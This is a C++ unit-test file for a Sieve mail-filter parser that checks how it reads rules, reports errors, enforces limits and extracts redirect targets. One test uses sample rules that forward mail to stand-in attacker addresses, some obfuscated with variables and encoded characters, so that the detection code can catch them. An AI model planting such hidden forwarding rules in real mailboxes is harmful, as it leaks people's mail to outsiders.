#include "wire/sieve.h"

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <random>

namespace sekimori::wire {
namespace {

SieveScript must(std::string_view text) {
  auto script = parse_sieve(text);
  EXPECT_TRUE(script) << text << "\n" << (script ? "" : script.error().text);
  return script ? std::move(*script) : SieveScript{};
}

std::string problem(std::string_view text) {
  const auto script = parse_sieve(text);
  EXPECT_FALSE(script) << text;
  return script ? "" : script.error().text;
}

TEST(Sieve, ReadsWhatWebmailWrites) {
  const auto script = must(R"(require ["fileinto", "copy", "vacation", "imap4flags"];
# rule:[to the phone]
if allof (header :contains ["subject", "x-list"] "urgent", not size :over 100K)
{
	redirect :copy "Taro@Phone.example";
}
elsif anyof (true, address :domain :is "from" "shop.example") {
  fileinto :flags "\\Seen" "INBOX.Shop"; stop;
} else { discard; }
/* the rest
   of it */
vacation :days 7 :subject "Away" :from "taro@d.example"
  :addresses ["taro@d.example", "t@d.example"] :handle "summer" text: # in two lines
I am away.
..really
.
;
keep;
)");
  EXPECT_EQ(script.extensions.size(), 4U);
  ASSERT_EQ(script.actions.size(), 6U);
  const auto& redirect = script.actions[0];
  EXPECT_EQ(redirect.verb, SieveVerb::redirect);
  EXPECT_EQ(redirect.target, "Taro@Phone.example");
  EXPECT_TRUE(redirect.copy);
  EXPECT_TRUE(redirect.is_constant);
  EXPECT_EQ(redirect.depth, 1);
  EXPECT_EQ(redirect.line, 5U);
  EXPECT_EQ(redirect.column, 2U);
  EXPECT_EQ(script.actions[1].target, "INBOX.Shop");
  EXPECT_EQ(script.actions[2].verb, SieveVerb::stop);
  EXPECT_EQ(script.actions[3].verb, SieveVerb::discard);
  const auto& vacation = script.actions[4];
  EXPECT_EQ(vacation.depth, 0);
  EXPECT_EQ(vacation.subject, "Away");
  EXPECT_EQ(vacation.from, "taro@d.example");
  EXPECT_EQ(vacation.handle, "summer");
  EXPECT_EQ(vacation.addresses, (std::vector<std::string>{"taro@d.example", "t@d.example"}));
  EXPECT_EQ(vacation.target, "I am away.\n.really\n");
  EXPECT_EQ(sieve_targets(script), std::vector<std::string>{"taro@phone.example"});
}

TEST(Sieve, NamesTargetsThatAreKnownOnlyWhenMailComes) {
  const auto script = must(
      "require [\"variables\", \"encoded-character\", \"enotify\", \"include\"];\r\n"
      "set \"x\" \"thief@evil.example\";\r\n"
      "redirect \"${x}\";\r\n"
      "redirect \"a${hex:40}evil${unicode:2E}example\";\r\n"
      "redirect \"b${hex: 4 zz}@evil.example\";\r\n"
      "notify :importance \"1\" \"mailto:c@evil.example?body=x\";\r\n"
      "include :personal \"other\"; include :global \"house\";\r\n");
  EXPECT_FALSE(script.actions[0].is_constant);
  EXPECT_TRUE(script.actions[1].is_constant);
  EXPECT_EQ(script.actions[1].target, "a@evil.example");
  EXPECT_FALSE(script.actions[2].is_constant);
  EXPECT_EQ(script.actions[4].target, "other");
  EXPECT_TRUE(script.actions[5].is_global);
  EXPECT_EQ(sieve_targets(script),
            (std::vector<std::string>{"${x}", "a@evil.example", "b${hex: 4 zz}@evil.example",
                                      "c@evil.example"}));
  // Without the extensions the same text is an address to the letter.
  const auto plain = must("redirect \"${x}@d.example\";");
  EXPECT_TRUE(plain.actions[0].is_constant);
  EXPECT_EQ(plain.actions[0].target, "${x}@d.example");
}

TEST(Sieve, SaysWhereItIsWrong) {
  EXPECT_EQ(problem("keep;\n  redirect \"a@b\n\";\nkeep").substr(0, 16), "line 4, column 5");
  EXPECT_NE(problem("redirect;").find("line 1, column 1: 'redirect' wants"), std::string::npos);
  EXPECT_NE(problem("keep;\nrequire \"copy\";").find("line 2, column 1"), std::string::npos);
  EXPECT_NE(problem("else { keep; }").find("without an 'if'"), std::string::npos);
  EXPECT_NE(problem("if true { keep; } keep; else { stop; }").find("'else'"), std::string::npos);
  EXPECT_NE(problem("if { keep; }").find("wants a test"), std::string::npos);
  EXPECT_NE(problem("redirect \"a@b\" keep;").find("';'"), std::string::npos);
  EXPECT_NE(problem("if true keep;").find("'{'"), std::string::npos);
  EXPECT_NE(problem("keep; }").find("too many"), std::string::npos);
  EXPECT_NE(problem("if true { keep;").find("missing"), std::string::npos);
  EXPECT_NE(problem("if header [] { keep; }").find("string"), std::string::npos);
  EXPECT_NE(problem("if anyof (true,) { keep; }").find("test"), std::string::npos);
  EXPECT_NE(problem("if size :over 9X { keep; }").find("K, M or G"), std::string::npos);
  EXPECT_NE(problem("if size :over 99999999999999999999 { keep; }").find("large"),
            std::string::npos);
  EXPECT_NE(problem("if size :over 99999999999999G { keep; }").find("large"), std::string::npos);
  for (const char* open : {"/* no end", "\"no end", "\"ends in \\", "vacation text:\nno dot\n",
                           "vacation text: no line\n.\n", "keep \x01;", "keep :;"}) {
    EXPECT_FALSE(parse_sieve(open)) << open;
  }
  EXPECT_FALSE(parse_sieve(std::string_view("keep \"\0\";", 9)));
}

TEST(Sieve, KeepsItsBounds) {
  EXPECT_FALSE(parse_sieve(std::string(k_sieve_max + 1, ' ')));
  EXPECT_TRUE(parse_sieve(std::string(k_sieve_max, ' ')));
  const auto nested = [](int blocks) {
    std::string text;
    for (int i = 0; i < blocks; ++i) text += "if true {";
    text += "redirect \"a@b.example\";";
    return text + std::string(static_cast<std::size_t>(blocks), '}');
  };
  EXPECT_EQ(must(nested(k_sieve_nesting_max)).actions.front().depth, k_sieve_nesting_max);
  EXPECT_FALSE(parse_sieve(nested(k_sieve_nesting_max + 1)));
  std::string tests = "if ";
  for (int i = 0; i < 100'000; ++i) tests += "not ";
  EXPECT_FALSE(parse_sieve(tests + "true { keep; }"));
  tests = "if ";
  for (int i = 0; i < 100'000; ++i) tests += "anyof (";
  EXPECT_FALSE(parse_sieve(tests));
  std::string many;
  for (std::size_t i = 0; i <= k_sieve_actions_max; ++i) many += "keep;";
  EXPECT_NE(problem(many).find("too many"), std::string::npos);
}

// Random scripts from a grammar: the actions that went in come out, wherever they stand; every
// prefix is either refused or says no more than the whole.
TEST(Sieve, WhatIsWrittenIsRead) {
  std::mt19937_64 random(5228);
  const auto pick = [&random](std::size_t n) { return static_cast<std::size_t>(random() % n); };
  const std::array blanks{" ", "\r\n", "\t", " # a redirect \"x@y\";\n", "/* } */"};
  for (int round = 0; round < 300; ++round) {
    std::vector<SieveAction> wanted;
    std::string text;
    const auto blank = [&] { return std::string(blanks[pick(blanks.size())]); };
    const auto any_test = [&](auto&& self, int left) -> std::string {
      if (left > 0 && pick(3) == 0) {
        return "anyof" + blank() + "(" + self(self, left - 1) + "," + blank() +
               self(self, left - 1) + ")";
      }
      if (left > 0 && pick(3) == 0) return "not " + self(self, left - 1);
      return pick(2) == 0 ? "header :is [\"to\"," + blank() + "\"cc\"] \"}{;\\\"\""
                          : "size :over 2M";
    };
    const auto block = [&](auto&& self, int depth) -> void {
      for (std::size_t n = 1 + pick(3); n > 0; --n) {
        text += blank();
        if (depth < 5 && pick(3) == 0) {
          text += "IF " + any_test(any_test, 3) + blank() + "{";
          self(self, depth + 1);
          text += "}";
          if (pick(2) == 0) {
            text += "else{";
            self(self, depth + 1);
            text += "}";
          }
          continue;
        }
        SieveAction action;
        action.depth = depth;
        const std::string target = fmt::format("a\"\\{}@d{}.example", pick(100), pick(9));
        if (pick(2) == 0) {
          action.verb = SieveVerb::redirect;
          action.copy = pick(2) == 0;
          action.target = target;
          text += "Redirect" + blank() + (action.copy ? ":Copy " : " ") + sieve_quoted(target);
        } else if (pick(2) == 0) {
          action.verb = SieveVerb::reject;
          action.target = "no\n.\n";
          text += "reject text:\r\nno\n..\n.\n";
        } else {
          action.verb = SieveVerb::discard;
          text += "discard";
        }
        text += blank() + ";";
        wanted.push_back(std::move(action));
      }
    };
    block(block, 0);
    auto script = must(text);
    ASSERT_EQ(script.actions.size(), wanted.size()) << text;
    for (std::size_t i = 0; i < wanted.size(); ++i) {
      wanted[i].line = script.actions[i].line;
      wanted[i].column = script.actions[i].column;
      EXPECT_EQ(script.actions[i], wanted[i]) << text;
    }
    for (std::size_t n = 0; n < text.size(); n += 1 + text.size() / 200) {
      const auto part = parse_sieve(std::string_view(text).substr(0, n));
      if (!part) continue;
      ASSERT_LE(part->actions.size(), wanted.size());
      for (std::size_t i = 0; i < part->actions.size(); ++i) {
        EXPECT_EQ(part->actions[i], script.actions[i]);
      }
    }
  }
}

}  // namespace
}  // namespace sekimori::wire
